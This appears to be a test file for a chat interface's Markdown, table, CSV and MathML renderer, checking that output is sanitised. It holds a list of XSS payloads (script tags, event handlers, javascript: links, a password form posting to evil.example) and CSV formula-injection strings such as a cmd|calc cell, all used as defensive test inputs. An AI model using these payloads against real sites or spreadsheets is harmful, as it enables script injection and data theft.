import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { Formula } from '../../../../src/chat/text/formula.tsx';
import { needsRichText } from '../../../../src/chat/text/needs-rich-text.ts';
import { richBlocksOf } from '../../../../src/chat/text/rich-blocks.ts';
import { RichText } from '../../../../src/chat/text/rich-text.tsx';
import { tableCsv } from '../../../../src/chat/text/table-csv.ts';

const shown = (content: string) => renderToStaticMarkup(createElement(RichText, { content }));

/** Returns the markup without attributes of style, and without the frame of tables. */
const plain = (content: string) => shown(content).replaceAll(/ (?:class|dir|tabindex|role|aria-label)="[^"]*"/gi, '');

test.each([
  ['# Head **b**', '<p>Head <strong>b</strong></p>'],
  ['a\nb\n\nc', '<p>a\nb\n\nc</p>'],
  ['- a\n  - b\n- c', '<ul><li><p>a</p><ul><li><p>b</p></li></ul></li><li><p>c</p></li></ul>'],
  ['3. a\n4. b', '<ol start="3"><li><p>a</p></li><li><p>b</p></li></ol>'],
  ['> a\n> b', '<blockquote><p>a\nb</p></blockquote>'],
  ['```js\n<b>1</b>\n```\nafter', '<pre><code>&lt;b&gt;1&lt;/b&gt;</code></pre><p>after</p>'],
  ['```\nnot closed', '<pre><code>not closed</code></pre>'],
  [
    '$$E = mc^2$$',
    '<div><math display="block"><mrow><mi>E</mi><mo>=</mo><mi>m</mi><msup><mi>c</mi><mn>2</mn></msup></mrow></math></div>',
  ],
  ['$$\nx\n$$', '<div><math display="block"><mi>x</mi></math></div>'],
  ['it is \\(x_1\\) here', '<p>it is <math><msub><mi>x</mi><mn>1</mn></msub></math> here</p>'],
  ['it is $x^2$ here', '<p>it is <math><msup><mi>x</mi><mn>2</mn></msup></math> here</p>'],
  ['it costs $5 to $6', '<p>it costs $5 to $6</p>'],
  [
    'see [the *page*](https://example.com/a)',
    '<p>see <a href="https://example.com/a" target="_blank" rel="noopener noreferrer nofollow">the *page* (example.com)</a></p>',
  ],
  [
    '**bold [x](https://a.example/)**',
    '<p><strong>bold <a href="https://a.example/" target="_blank" rel="noopener noreferrer nofollow">x (a.example)</a></strong></p>',
  ],
])('the answer %j is shown as %s', (content, markup) => {
  expect(plain(content)).toBe(markup);
});

test('a table is shown with its alignment and with a button that copies it', () => {
  const markup = plain('| Cell | Ah |\n|:--|--:|\n| 4680 | **26** |\n| a \\| b |');
  expect(markup).toContain('<th data-align="start">Cell</th><th data-align="end">Ah</th>');
  expect(markup).toContain('<td data-align="end"><strong>26</strong></td>');
  expect(markup).toContain('<td data-align="start">a | b</td><td data-align="end"></td>');
  expect(markup).toContain('<button');
});

test.each([
  [
    [
      ['a', 'b'],
      ['1', '2'],
    ],
    'a,b\r\n1,2',
  ],
  [[['1,5', 'say "x"', 'two\nlines']], '"1,5","say ""x""","two\nlines"'],
  [[['**26** Ah', '`x`', '[p](https://a.example/)']], '26 Ah,x,p'],
  [[['=1+1', '@SUM(A1)', '+cmd', '-cmd', '-20', '+5', '-', '-.5']], "'=1+1,'@SUM(A1),'+cmd,'-cmd,-20,+5,-,-.5"],
  [[["-2+3+cmd|' /C calc'!A0", '+1+HYPERLINK(1)', '＝1+1']], "'-2+3+cmd|' /C calc'!A0,'+1+HYPERLINK(1),'＝1+1"],
  [[['-20 °C', '-20 to +60', '+/-', '−5']], "-20 °C,-20 to +60,'+/-,−5"],
])('the rows %j are copied as %j', (rows, csv) => {
  expect(tableCsv(rows)).toBe(csv);
});

test.each([
  ['\\frac{a}{b}', '<mfrac><mi>a</mi><mi>b</mi></mfrac>'],
  ['\\sqrt[3]{x}', '<mroot><mi>x</mi><mn>3</mn></mroot>'],
  ['x_i^2', '<msubsup><mi>x</mi><mi>i</mi><mn>2</mn></msubsup>'],
  ['\\Delta T', '<mrow><mi>Δ</mi><mi>T</mi></mrow>'],
  [
    '3.6 \\times 10^{-3}',
    '<mrow><mn>3.6</mn><mo>×</mo><msup><mn>10</mn><mrow><mo>−</mo><mn>3</mn></mrow></msup></mrow>',
  ],
  ['\\left(a\\right)', '<mrow><mo>(</mo><mi>a</mi><mo>)</mo></mrow>'],
  ['\\bar{x}', '<mover accent="true"><mi>x</mi><mo>¯</mo></mover>'],
])('the formula %s becomes MathML', (tex, math) => {
  expect(renderToStaticMarkup(createElement(Formula, { tex }))).toBe(`<math>${math}</math>`);
});

test.each([
  '\\frac{a}',
  '{',
  '}',
  'a^',
  'a^b^c',
  '\\unknown{x}',
  '\\constructor',
  '\\toString{x}',
  '\\href{javascript:alert(1)}{x}',
  '\\text{a',
  '&',
  '{'.repeat(50),
])('the formula %s, which is not known, is shown as it is written', (tex) => {
  expect(renderToStaticMarkup(createElement(Formula, { tex }))).toContain('<code');
});

test.each([
  ['| a | b |\n|---|---|\n| 1 | 2 |', true],
  ['```\ncode\n```', true],
  ['# Head', true],
  ['- a\n  - b', true],
  ['> said', true],
  ['[a](https://b.example)', true],
  ['$$x$$', true],
  ['energy $E_1$', true],
  ['angle $\\alpha$', true],
  [':--|--:', true],
  ['-'.repeat(19_000), false],
  [`$a${'^'.repeat(19_000)}`, false],
  ['Plain, with **bold**, `code`, https://a.example and\n- a\n- list', false],
  ['It costs $5 to $6, a > b, 1-2 | 3-4, [1] (2)', false],
  [`# ${'x'.repeat(30_000)}`, false],
])('whether %j loads the chunk for Markdown: %s', (content, needs) => {
  expect(needsRichText(content)).toBe(needs);
});

/** What an attacker may try in an answer; `x` marks where something would run, load or lead. */
const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<details open ontoggle=alert(1)>',
  '<form action=https://evil.example><input name=password>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<object data="https://evil.example"></object>',
  '<embed src=https://evil.example>',
  '<video src=https://evil.example autoplay>',
  '<!--><script>alert(1)</script-->',
  '</p><script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x]( javascript:alert)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](//evil.example)',
  '[x](/api/v1/auth/logout)',
  '[x](&#106;avascript:alert)',
  '[x](\\javascript:alert)',
  '[x](https:\u0000//evil)',
  '[x](ftp://evil.example)',
  '[x](about:blank)',
  '![x](data:image/svg+xml,evil)',
  '![x](javascript:alert)',
  '[![x](javascript:alert)](javascript:alert)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '`<script>alert(1)</script>`',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '# <script>alert(1)</script>',
  '> <img src=x onerror=alert(1)>',
  '- <svg onload=alert(1)>',
  '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=1> | [x](javascript:alert) |',
  '$$<script>alert(1)</script>$$',
  '$$\\href{javascript:alert(1)}{x}$$',
  '$$\\includegraphics{https://evil.example/a.png}_1$$',
  '$\\html{<b>}_x$',
  '\\(\\url{javascript:alert(1)}\\)',
  '**<b onclick=alert(1)>x</b>**',
  '*[x](javascript:alert)*',
];

test.each(attacks)('the hostile answer %j runs, loads and leads to nothing', (content) => {
  const markup = shown(content);
  const tags = [...markup.matchAll(/<([a-z0-9]+)/gi)].map(([, tag]) => tag);
  expect(tags.filter((tag) => !harmless.has(tag ?? ''))).toEqual([]);
  expect(markup).not.toMatch(/<[^>]* (?:on\w+|src|srcset|action|style)=/i);
  // A web address in the text is a link that shows itself.
  for (const [, href] of markup.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^https:\/\/evil\.example\//);
});

const harmless = new Set(
  `a section p strong em code pre ul ol li blockquote div table thead tbody tr th td button svg path rect math mrow mi mn mo mtext msub
  msup mfrac`.split(/\s+/),
);

test.each([
  ['![track](https://evil.example/p.png?q=secret)', 'https://evil.example/p.png?q=secret', 'track (evil.example)'],
  ['[vfp.example](https://evil.example/)', 'https://evil.example/', 'vfp.example (evil.example)'],
  ['[x](https://user:pass@evil.example/)', 'https://user:pass@evil.example/', 'x (evil.example)'],
  ['[x](https://vfp.example@evil.example)', 'https://vfp.example@evil.example/', 'x (evil.example)'],
  ['[x](HTTPS://EVIL.EXAMPLE)', 'https://evil.example/', 'x (evil.example)'],
  ['[x](https://еvil.example)', 'https://xn--vil-qdd.example/', 'x (xn--'],
])(
  'the link %s shows its host, loads nothing by itself and does not tell where it was clicked',
  (content, href, text) => {
    const markup = shown(content);
    expect(markup).toContain('rel="noopener noreferrer nofollow"');
    expect(markup).toContain(`>${text}`);
    expect(markup).not.toContain('<img');
    expect(markup).toContain(`href="${href}"`);
  },
);

test.each([
  ['quotations', '>'.repeat(10_000)],
  ['lists', Array.from({ length: 2000 }, (_, depth) => `${' '.repeat(depth)}- x`).join('\n')],
  ['brackets', '['.repeat(10_000)],
  ['links', '[x]('.repeat(5000)],
  ['dollars', '$_'.repeat(10_000)],
  ['stars', '*a'.repeat(10_000)],
  ['bars', `${'|'.repeat(9000)}\n${'|-'.repeat(5000)}`],
  ['fences', '```\n'.repeat(4000)],
  ['open formulas', '\\('.repeat(9000)],
  ['formula lines', '$$\n'.repeat(3000)],
])('twenty thousand characters of %s are parsed', (_what, content) => {
  expect(richBlocksOf(content)).not.toEqual([]);
});
